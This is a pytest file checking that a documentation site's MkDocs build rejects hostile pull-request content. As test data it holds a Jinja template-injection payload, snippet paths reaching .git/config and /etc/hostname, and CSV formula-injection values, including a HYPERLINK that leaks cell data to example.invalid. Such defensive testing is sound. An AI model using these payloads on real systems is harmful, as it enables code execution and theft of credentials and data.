"""A hostile pull request against the real build: Python reached from a page, a snippet of
.git/config, a formula in a verdict, and a data error under ``mkdocs serve``. Each builds a copy
of the project (a failed build stops before any page renders, so those take seconds)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import build_site, copy_project

TOKEN = "ghp_not-a-real-token-0000"
WALK = "{{ ''.__class__.__mro__[1].__subclasses__()|length }}"


@pytest.fixture
def project(tmp_path) -> Path:
    project = copy_project(tmp_path / "project")
    (project / ".git").mkdir()  # what a CI checkout holds, with the token a checkout may leave
    (project / ".git" / "config").write_text(f'[remote "origin"]\n\turl = https://x-access-token:{TOKEN}@github.com/o/r\n')
    return project


def append(project: Path, page: str, text: str) -> int:
    """Add ``text`` to a page; return the line it starts on."""
    path = project / "docs" / page
    old = path.read_text(encoding="utf-8")
    path.write_text(old + text, encoding="utf-8")
    return old.count("\n") + 1


def test_python_reached_from_a_page_fails_the_build_before_rendering(project, tmp_path):
    line = append(project, "embed.md", f"\nSubclasses: {WALK}\n")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    assert f"docs/embed.md:{line + 1}:13: `{WALK}` is not a call of one of the guide's macros" in result.stderr
    assert not (tmp_path / "site" / "embed" / "index.html").exists()  # before: "Subclasses: 695"


def test_a_statement_in_a_page_fails_the_build(project, tmp_path):
    line = append(project, "index.md", "\n{% for f in guide.frameworks %}{{ f.name }}{% endfor %}\n")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    assert f"docs/index.md:{line + 1}:1: the Jinja statement `{{% for %}}` is not allowed in a page" in result.stderr


@pytest.mark.parametrize("snippet", ['--8<-- ".git/config"', '--8<-- "../.git/config"', '--8<-- "../../etc/hostname"'])
def test_a_snippet_from_outside_the_snippet_folders_fails_the_build(project, tmp_path, snippet):
    line = append(project, "embed.md", f"\n{snippet}\n")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    assert f"docs/embed.md:{line + 1}:8: the snippet " in result.stderr
    site = tmp_path / "site"
    assert not site.exists() or all(TOKEN not in p.read_text(errors="replace") for p in site.rglob("*.html"))


def test_a_missing_snippet_fails_the_build(project, tmp_path):
    line = append(project, "embed.md", '\n--8<-- "fastapi_app/no_such_file.py"\n')
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    assert f"docs/embed.md:{line + 1}:8: the snippet 'fastapi_app/no_such_file.py' is not a file in includes/ or examples/" in result.stderr


FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]


def test_the_built_csv_export_starts_no_cell_with_a_formula(project, tmp_path, guide):
    criteria = project / "data" / "criteria.yml"
    text = criteria.read_text(encoding="utf-8")
    for criterion, formula in zip(guide.criteria, FORMULAS):
        verdict = criterion.assessments[guide.frameworks[0].id].verdict
        assert f"verdict: {verdict}\n" in text
        text = text.replace(f"verdict: {verdict}\n", f"verdict: '{formula.replace(chr(39), chr(39) * 2)}'\n", 1)
    criteria.write_text(text, encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    raw = (tmp_path / "site" / "exports" / "comparison.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    verdicts = {row["verdict"] for row in rows}
    assert {"'" + formula for formula in FORMULAS} <= verdicts  # before: =HYPERLINK(...) as written
    for row in csv.reader(io.StringIO(raw, newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
    page = (tmp_path / "site" / "comparison" / "index.html").read_text(encoding="utf-8")
    assert "@SUM(A1:A9)" in page and "'@SUM" not in page  # only the CSV carries the quote


# --- `make serve` --------------------------------------------------------------------------

SERVE = """
import shutil, sys
from mkdocs.commands.build import build
from mkdocs.config import load_config

first_site, second_site, broken, fixed = sys.argv[1:]
config = load_config("mkdocs.yml", site_dir=first_site)
config.plugins.on_startup(command="serve", dirty=False)  # what `mkdocs serve` does once
build(config, serve_url="http://127.0.0.1:8000/")
shutil.copy(fixed, broken)  # the contributor saves the fix; serve rebuilds with a fresh config
build(load_config("mkdocs.yml", site_dir=second_site), serve_url="http://127.0.0.1:8000/")
"""


def serve_twice(project: Path, tmp_path: Path, broken: Path, fixed_text: str) -> subprocess.CompletedProcess:
    fixed = tmp_path / "fixed"
    fixed.write_text(fixed_text, encoding="utf-8")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true"}
    return subprocess.run(
        [sys.executable, "-c", SERVE, str(tmp_path / "first"), str(tmp_path / "second"), str(broken), str(fixed)],
        cwd=project, capture_output=True, text=True, env=env,
    )


def problem_list(site: Path, page: str) -> list[str]:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup((site / page).read_text(encoding="utf-8"), "html.parser")
    alert = soup.select_one('[role="alert"]')
    return [li.get_text() for li in alert.select("li")] if alert else []


def test_serve_shows_a_data_error_on_every_page_and_recovers_once_fixed(project, tmp_path):
    data = project / "data" / "frameworks.yml"
    good = data.read_text(encoding="utf-8")
    data.write_text(good.replace("    licence: MIT", "    licence: MIT\n    licence: MIT", 1), encoding="utf-8")
    line = good[:good.index("    licence: MIT")].count("\n") + 2
    result = serve_twice(project, tmp_path, data, good)
    assert result.returncode == 0, result.stderr  # before: the build failed and the browser waited
    assert f"data/frameworks.yml:{line}:5: frameworks[0].licence: duplicate key" in result.stderr  # and in the terminal
    for page in ("index.html", "performance/index.html", "decision/index.html"):
        [problem] = problem_list(tmp_path / "first", page)
        assert re.fullmatch(rf"data/frameworks\.yml:{line}:5: frameworks\[0\]\.licence: duplicate key 'licence'.*", problem)
    assert problem_list(tmp_path / "second", "index.html") == []
    assert (tmp_path / "second" / "exports" / "comparison.csv").exists()


def test_serve_shows_a_page_problem_without_rendering_the_page(project, tmp_path):
    page = project / "docs" / "embed.md"
    good = page.read_text(encoding="utf-8")
    line = append(project, "embed.md", f"\nSubclasses: {WALK}\n") + 1
    result = serve_twice(project, tmp_path, page, good)
    assert result.returncode == 0, result.stderr
    [problem] = problem_list(tmp_path / "first", "embed/index.html")
    assert problem.startswith(f"docs/embed.md:{line}:13: `{WALK}` is not a call")
    assert "Subclasses: " not in (tmp_path / "first" / "embed" / "index.html").read_text(encoding="utf-8")
    assert problem_list(tmp_path / "second", "embed/index.html") == []


def test_the_real_build_never_shows_problems_as_a_page(project, tmp_path):
    """Outside `serve`, a problem fails the build, so CI cannot publish an error page."""
    append(project, "index.md", "\n{{ guide }}\n")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0 and "1 problem in the guide's data and pages" in result.stderr
